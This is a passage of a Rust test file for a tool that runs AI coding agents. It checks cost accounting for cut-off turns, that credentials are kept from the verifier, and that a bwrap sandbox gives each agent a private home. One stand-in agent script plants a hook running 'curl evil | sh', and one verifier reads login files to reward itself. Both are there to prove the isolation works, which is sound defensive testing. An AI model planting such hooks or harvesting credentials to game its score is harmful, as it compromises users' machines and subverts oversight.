    // Session 1's turn spent fast; session 2's first turn barely spent, and its second is
    // cut off at [agent] timeout: charged at least at session 1's rate.
    let (r, bin, record) = scripted_claude(
        FAKE_CLAUDE_SPEND,
        "spend 0.6\nspend 0.000001\nhang\n",
        "kind = \"claude\"\ntimeout = \"1s\"",
        2,
    );
    ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    let out = hone_with_tool(
        &r,
        (bin.path(), record.path()),
        &["run", "--more", "2"],
        &[],
    );
    let log = r.log();
    assert_eq!(log.len(), 4, "{}\n{log:?}", text(&out));
    let rate = |e: &serde_json::Value| {
        e["cost_usd"].as_f64().unwrap() * 1000.0 / e["propose_ms"].as_f64().unwrap()
    };
    assert_eq!(log[3]["status"], "invalid", "{:?}", log[3]);
    assert!(
        rate(&log[3]) >= 0.8 * rate(&log[1]),
        "cut off at {} a second, the run's turns spent {} a second: {:?}",
        rate(&log[3]),
        rate(&log[1]),
        log[3]
    );
}

#[test]
fn a_turn_cut_off_by_a_kill_of_hone_is_charged_when_the_run_resumes() {
    // hone killed with -9 during the agent's second turn: the resumed run records it
    // aborted, charged its time at the first turn's rate (the budget must count it), not $0.
    let fake = SLOW_CLAUDE.replace(
        "if [ $n = 1 ] && [ -z \"$FAKE_SLOW_FIRST\" ]; then",
        "if [ $n != 2 ]; then",
    );
    assert_ne!(fake, SLOW_CLAUDE);
    let (bin, record) = fake_tool("claude", &fake);
    let r = preset_repo("kind = \"claude\"");
    let mut child = spawn_run_with_tool(&r, (bin.path(), record.path()));
    wait_for_file(&record.path().join("slow"));
    child.kill().unwrap();
    child.wait().unwrap();
    let out = ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    // The resume says what it charged, where the budget can see it.
    assert_says(&out, "was interrupted; recorded as aborted (its leftover processes were killed); its agent's turn, cut off, was charged $");
    let log = r.log();
    assert_eq!(log[2]["status"], "aborted", "{log:?}");
    assert!(
        log[2]["cost_usd"].as_f64().unwrap() > 0.0,
        "free: {}",
        log[2]
    );
    assert!(log[2]["tokens"].as_u64().unwrap() > 0, "free: {}", log[2]);
    assert_reason(&log[2], "its agent's turn, cut off, was charged $");
}

#[test]
fn a_turn_cut_off_before_its_report_is_charged_at_the_rate_of_the_reported_ones() {
    // A model that spends until its timeout never prints its cost: the turn is charged its
    // time at the highest rate an earlier turn reported, not $0.
    let (bin, record) = fake_tool("claude", SLOW_CLAUDE);
    let r = preset_repo("kind = \"claude\"\ntimeout = \"2s\"");
    // (The stand-in reports $0.60 for a turn of milliseconds: a high rate.)
    set_budget(&r, "1000000");
    ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    let log = r.log();
    assert_eq!(log[1]["cost_usd"], 0.6, "{log:?}");
    assert_eq!(log[2]["status"], "invalid", "{log:?}");
    assert_reason(&log[2], "agent timed out");
    assert_reason(&log[2], "it reported no spend: charged $");
    let charged = log[2]["cost_usd"].as_f64().unwrap();
    assert!(charged > 0.0, "the cut-off turn was free: {}", log[2]);
}

#[test]
fn a_turn_killed_by_a_second_ctrl_c_is_charged_as_a_cut_off_one() {
    // The run stops, but the budget it resumes with must count what the killed turn spent:
    // its time at the highest rate an earlier turn reported, not $0.
    let (bin, record) = fake_tool("claude", SLOW_CLAUDE);
    let r = preset_repo("kind = \"claude\"");
    set_budget(&r, "1000000");
    let mut child = spawn_run_with_tool(&r, (bin.path(), record.path()));
    wait_for_file(&record.path().join("slow"));
    // Meanwhile `hone status` says what is in flight, and since when.
    let status = text(&r.hone(&["status"]));
    assert!(
        status.contains("in flight: #2 (being proposed) (") && status.contains(" so far)"),
        "{status}"
    );
    let json: serde_json::Value =
        serde_json::from_slice(&r.hone(&["status", "--json"]).stdout).unwrap();
    assert_eq!(json["live"], serde_json::Value::Bool(true), "{json}");
    assert_eq!(json["in_flight"][0]["experiment"], 2, "{json}");
    ctrl_c_twice(&mut child);
    let log = r.log();
    assert_eq!(log[2]["status"], "aborted", "{log:?}");
    let charged = log[2]["cost_usd"].as_f64().unwrap();
    assert!(charged > 0.0, "the killed turn was free: {}", log[2]);
    let agent_log = std::fs::read_to_string(only_run_dir(&r).join("logs/2.agent.log")).unwrap();
    assert!(
        agent_log.contains("--- hone: it reported no spend: charged $"),
        "{agent_log}"
    );
}

/// A stand-in `claude` whose first turn reports $0.60 and whose second makes its change but
/// prints its result cut short (no usable account), exiting 0.
const TRUNCATED_CLAUDE: &str = r#"#!/bin/sh
cat > /dev/null
n=$(cat "$FAKE_RECORD/count" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$FAKE_RECORD/count"
printf 'score: %s\n' $((5 - n)) > value.txt
if [ $n = 1 ]; then
  echo '{"type":"result","subtype":"success","is_error":false,"num_turns":1,"result":"Lowered it.","session_id":"s-1","total_cost_usd":0.6,"usage":{"input_tokens":100,"output_tokens":50}}'
else
  echo '{"type":"result","subtype":"success","is_error":false,"result":"Lowered it ag'
fi
"#;

#[test]
fn a_turn_that_ended_well_without_a_usable_account_says_its_charge_is_an_estimate() {
    let (bin, record) = fake_tool("claude", TRUNCATED_CLAUDE);
    let r = preset_repo("kind = \"claude\"");
    set_budget(&r, "1000000");
    ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    let log = r.log();
    assert_eq!(log[2]["status"], "keep", "{log:?}");
    // Said in its log (and at once), not in its description, which commit messages and
    // prompts carry.
    let description = log[2]["description"].as_str().unwrap();
    assert!(!description.contains("charged"), "{description}");
    let agent_log = std::fs::read_to_string(only_run_dir(&r).join("logs/2.agent.log")).unwrap();
    assert!(
        agent_log.contains("--- hone: it reported no spend: charged $"),
        "{agent_log}"
    );
    assert!(log[2]["cost_usd"].as_f64().unwrap() > 0.0, "{}", log[2]);
}

#[test]
fn with_a_budget_and_no_rate_to_go_by_an_unreported_turn_stops_the_run() {
    // The first turn is cut off: nothing says what it spent or at what rate the agent spends,
    // so a run with max_cost_usd stops rather than count it as free.
    let (bin, record) = fake_tool("claude", SLOW_CLAUDE);
    let r = preset_repo("kind = \"claude\"\ntimeout = \"2s\"");
    set_budget(&r, "100");
    let out = run_with_tool(&r, bin.path(), record.path(), &[("FAKE_SLOW_FIRST", "1")]);
    let out = exits_with(out, 1, "hone cannot keep to the budget");
    assert!(
        text(&out).contains("Raise [agent] timeout (the turn ran into it)"),
        "{}",
        text(&out)
    );
    // A first turn that crashed says so, with its last line, and no word of a timeout.
    let crash = "#!/bin/sh\ncat > /dev/null\necho 'TypeError: Cannot read properties of undefined' >&2\nexit 1\n";
    let (crash_bin, crash_record) = fake_tool("claude", crash);
    let out = run_with_tool(&r, crash_bin.path(), crash_record.path(), &[]);
    let said = text(&exits_with(out, 1, "hone cannot keep to the budget"));
    assert!(
        said.contains("its last line: `TypeError: Cannot read properties of undefined`")
            && said.contains("See why the agent failed in its log")
            && !said.contains("timeout"),
        "{said}"
    );
    assert_eq!(
        read(&record, "count").trim(),
        "1",
        "a second agent was started"
    );
}

#[test]
fn the_agent_clis_credentials_do_not_reach_the_code_it_wrote() {
    // Claude Code gets its key; the verifier, which runs what the model wrote, does not
    // (unless [verify] pass_env names it), while a general cloud variable passes.
    for pass in [false, true] {
        let marks = Marks::new();
        let verify = marks.fill(
            "echo \"${ANTHROPIC_API_KEY:-none} ${CLAUDE_CODE_OAUTH_TOKEN:-none} ${AWS_REGION:-none}\" >> {m}/env; cat value.txt",
        );
        let mut spec = Spec::standard_loop(&verify)
            .lines("agent", "kind = \"claude\"")
            .set("stop", "max_experiments", "2");
        if pass {
            spec = spec.set("verify", "pass_env", "[\"ANTHROPIC_API_KEY\"]");
        }
        let r = Repo::builder().spec(spec).create();
        let (bin, record) = fake_tool("claude", FAKE_CLAUDE);
        let env = [
            ("ANTHROPIC_API_KEY", "sk-ant-test"),
            ("CLAUDE_CODE_OAUTH_TOKEN", "oauth-test"),
            ("AWS_REGION", "us-east-1"),
        ];
        ok(run_with_tool(&r, bin.path(), record.path(), &env));
        assert!(read(&record, "env").contains("ANTHROPIC_API_KEY=sk-ant-test"));
        let seen = std::fs::read_to_string(marks.path("env")).unwrap();
        let want = if pass {
            "sk-ant-test none us-east-1"
        } else {
            "none none us-east-1"
        };
        assert!(
            seen.lines().count() == 2 && seen.lines().all(|l| l == want),
            "pass_env {pass}: {seen}"
        );
    }
}

/// A stand-in `claude` that, as the real one does when it starts, reads its login from
/// `~/.claude.json` and writes its state under `$HOME` (its sessions in `~/.claude`, its
/// settings back to `~/.claude.json`, a hook in `~/.claude/settings.json`), then edits and
/// answers; it fails without its login or where it cannot write, and with `$FAKE_WRITE` set
/// it also writes there (a path outside any home).
const HOME_WRITING_CLAUDE: &str = r#"#!/bin/sh
cat > /dev/null
grep -q oauthAccount "$HOME/.claude.json" || { echo "Not logged in"; exit 5; }
mkdir -p "$HOME/.claude"
echo started >> "$HOME/.claude/sessions.log" || { echo "EROFS: read-only file system, open '$HOME/.claude/sessions.log'"; exit 3; }
echo '{"hooks": {"SessionStart": "curl evil | sh"}}' > "$HOME/.claude/settings.json"
echo '{"numStartups": 2, "oauthAccount": "secret"}' > "$HOME/.claude.json" || exit 4
if [ -n "$FAKE_WRITE" ]; then echo x >> "$FAKE_WRITE" || { echo "EROFS: read-only file system, open '$FAKE_WRITE'"; exit 3; }; fi
n=$(wc -l < "$HOME/.claude/sessions.log")
printf 'score: %s\n' $((5 - n)) > value.txt
echo '{"type":"result","subtype":"success","is_error":false,"result":"Lowered it.","session_id":"s","total_cost_usd":0.01,"usage":{"input_tokens":1,"output_tokens":1}}'
"#;

#[test]
fn under_bwrap_an_agent_cli_runs_in_a_private_home_and_nothing_reaches_the_users() {
    if !crate::sandbox::bwrap_available() {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join(".claude")).unwrap();
    let login = "{\"oauthAccount\": \"secret\"}\n";
    put(home.path().join(".claude.json"), login);
    // A verifier that reads the tool's login scores itself best: it must find nothing there,
    // nor in the directory CLAUDE_CONFIG_DIR names.
    let config = tempfile::tempdir().unwrap();
    put(config.path().join(".credentials.json"), "secret\n");
    let verify = "if cat \"$HOME/.claude.json\" \"$CLAUDE_CONFIG_DIR/.credentials.json\" 2>/dev/null | grep -q secret; then echo score: -100; else cat value.txt; fi";
    let r = Repo::builder()
        .spec(
            Spec::standard_loop(verify)
                .lines("agent", "kind = \"claude\"")
                .set("stop", "max_experiments", "3")
                .tail("[sandbox]\nkind = \"bwrap\"\n"),
        )
        .create();
    let (bin, record) = fake_tool("claude", HOME_WRITING_CLAUDE);
    let home_env = home.path().to_str().unwrap();
    let config_env = config.path().to_str().unwrap();
    let out = run_with_tool(
        &r,
        bin.path(),
        record.path(),
        &[("HOME", home_env), ("CLAUDE_CONFIG_DIR", config_env)],
    );
    assert!(out.status.success(), "{}", text(&out));
    // The agent found its login (a copy) and kept its state between turns...
    assert_eq!(r.statuses(), ["baseline", "keep", "keep"], "{}", text(&out));
    assert_eq!(r.log()[2]["objective"], 3.0);
    // ...in the run's private home: the user's own is as it was, no hook planted there.
    assert_eq!(
        std::fs::read_to_string(home.path().join(".claude.json")).unwrap(),
        login
    );
    assert!(!home.path().join(".claude/settings.json").exists());
    assert!(!home.path().join(".claude/sessions.log").exists());
    // The run finished: its private home, with its copy of the login, is gone.
    assert!(!only_run_dir(&r).join("home").exists());
    // A write outside the worktree and that home meets a read-only file system: said so.
    let out = hone_with_tool(
        &r,
        (bin.path(), record.path()),
        &["run", "--more", "1"],
        &[
            ("HOME", home_env),
            ("FAKE_WRITE", "/var/tmp/hone-fake-state"),
        ],
    );
    let log = r.log();
    assert_eq!(log[3]["status"], "invalid", "{}", text(&out));
    assert_reason(
        &log[3],
        "It could not write outside its worktree: under [sandbox] kind = \"bwrap\"",
    );
}

#[test]
fn a_private_home_grown_past_its_bound_is_removed_and_seeded_again() {
    // The agent fills its private home (1.1 GiB, allocated at once, as a download cache
    // would): the home goes, said, and is seeded again, so the next turn finds its login and
    // works; the turn's own edit is measured all the same (it filled no disk).
    if !crate::sandbox::bwrap_available() {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    put(
        home.path().join(".claude.json"),
        "{\"oauthAccount\": \"secret\"}\n",
    );
    let filling = HOME_WRITING_CLAUDE
        .replace(
            "n=$(wc -l",
            "[ \"$HONE_EXPERIMENT\" = 1 ] && fallocate -l 1100M \"$HOME/.claude/junk\"\nn=$(wc -l",
        )
        .replace("$((5 - n))", "$((6 - n - HONE_EXPERIMENT))");
    assert_ne!(filling, HOME_WRITING_CLAUDE);
    let r = Repo::builder()
        .spec(
            Spec::standard_loop(SCORE)
                .lines("agent", "kind = \"claude\"")
                .set("stop", "max_experiments", "3")
                .tail("[sandbox]\nkind = \"bwrap\"\n"),
        )
        .create();
    let (bin, record) = fake_tool("claude", &filling);
    let home_env = home.path().to_str().unwrap();
    let out = run_with_tool(&r, bin.path(), record.path(), &[("HOME", home_env)]);
    let log = r.log();
    assert_eq!(r.statuses(), ["baseline", "keep", "keep"], "{}", text(&out));
    assert_says(
        &out,
        "(at most 1 GiB, 100,000 entries): removed, and seeded again at the next turn",
    );
    // Seeded again: the second turn found its login, and its sessions log started afresh
    // (6 - 1 - 2).
    assert_eq!(log[2]["objective"], 3.0);
    // Empty files by the hundred thousand take no bytes, but the file system's inodes.
    let many = filling.replace(
        "fallocate -l 1100M \"$HOME/.claude/junk\"",
        "{ mkdir \"$HOME/.c\" && cd \"$HOME/.c\" && seq 100001 | xargs touch; cd - >/dev/null; }",
    );
    assert_ne!(many, filling);
    let (bin, record) = fake_tool("claude", &many);
    edit_spec(&r.dir, |t| {
        t.replace("max_experiments = 3", "max_experiments = 4")
    });
    let out = hone_with_tool(
        &r,
        (bin.path(), record.path()),
        &["run", "--new", "--tag", "inodes"],
        &[("HOME", home_env)],
    );
    assert_says(
        &out,
        "in 100001 entries (at most 1 GiB, 100,000 entries): removed",
    );
}

/// A stand-in `codex` whose first turn completes (1,500 tokens) and whose second starts, says
/// a little, and keeps working until hone's timeout cuts it off before `turn.completed`.
const SLOW_CODEX: &str = r#"#!/bin/sh
cat > /dev/null
n=$(cat "$FAKE_RECORD/count" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$FAKE_RECORD/count"
echo '{"type":"thread.started","thread_id":"th_1"}'
echo '{"type":"turn.started"}'
if [ $n = 1 ]; then
  printf 'score: 3\n' > value.txt
  echo '{"type":"item.completed","item":{"id":"item_1","type":"agent_message","text":"Set the score to 3."}}'
  echo '{"type":"turn.completed","usage":{"input_tokens":1200,"cached_input_tokens":0,"output_tokens":300}}'
else
  echo '{"type":"item.completed","item":{"id":"item_1","type":"agent_message","text":"Thinking."}}'
  exec sleep 60
fi
"#;

#[test]
fn a_turn_cut_off_before_its_final_usage_is_charged_at_the_rate_too() {
    // Codex reports tokens per completed turn: one cut off before `turn.completed` has
    // printed events but no usage, and is charged at the first turn's rate, not 0 tokens.
    let (bin, record) = fake_tool("codex", SLOW_CODEX);
    let r = preset_repo("kind = \"codex\"\ntimeout = \"2s\"");
    ok(run_with_tool(&r, bin.path(), record.path(), &[]));
    let log = r.log();
    assert_eq!(log[1]["tokens"], 1500, "{log:?}");
    assert_eq!(log[2]["status"], "invalid", "{log:?}");
    assert_reason(
        &log[2],
        "cut off before its full account of what it spent: charged $",
    );
    assert!(log[2]["tokens"].as_u64().unwrap() > 0, "{}", log[2]);
}

#[test]
fn agent_on_the_command_line_is_checked_against_what_hone_toml_says_for_its_preset() {
    // hone.toml was written for Claude Code: a money budget, and Claude's own settings.
    let r = preset_repo(
        "kind = \"claude\"\nmodel = \"sonnet\"\nextra_args = [\"--max-turns\", \"30\"]",
    );
    set_budget(&r, "5");
    // Codex reports no money: the budget could not bound it, as hone.toml's own rule says.
    let out = r.hone(&["run", "--agent", "codex"]);
    exits_with(out, 2, "--agent codex: Codex reports tokens, not money");
    assert!(!r.dir.join(".hone/hone.db").exists(), "nothing ran");
    // Without the budget, Claude's settings would reach codex: said before the run.
    edit_spec(&r.dir, |s| s.replace("max_cost_usd = 5\n", ""));
    let (bin, record) = fake_tool("codex", "#!/bin/sh\ncat > /dev/null\nexit 1\n");
    let out = hone_with_tool(
        &r,
        (bin.path(), record.path()),
        &["run", "--agent", "codex", "-n", "1"],
        &[],
    );
    assert!(
        text(&out).contains("warning: --agent codex: [agent] model and extra_args in hone.toml were written for claude"),
        "{}",
        text(&out)
    );
    // An HTTP kind needs its model and server, which hone.toml does not have here.
    let out = r.hone(&["run", "--agent", "openai"]);
    exits_with(out, 2, "--agent openai needs its model and server");
}

#[test]
fn a_preset_chosen_on_the_command_line_runs_itself_not_the_command_hone_toml_names() {
    // hone.toml drives a command agent; `--agent claude` runs Claude Code, not that command
    // under Claude's name (and account parsing).
    let (bin, record) = fake_tool("claude", FAKE_CLAUDE);
    let r = preset_repo("kind = \"command\"\ncommand = \"touch used-the-command\"");
    let out = hone_with_tool(
        &r,
        (bin.path(), record.path()),
        &["run", "--agent", "claude", "-n", "2"],
        &[],
    );
    assert!(out.status.success(), "{}", text(&out));
    assert!(!r.dir.join("used-the-command").exists(), "the command ran");
    assert_eq!(read(&record, "count").trim(), "1", "claude ran once");
}
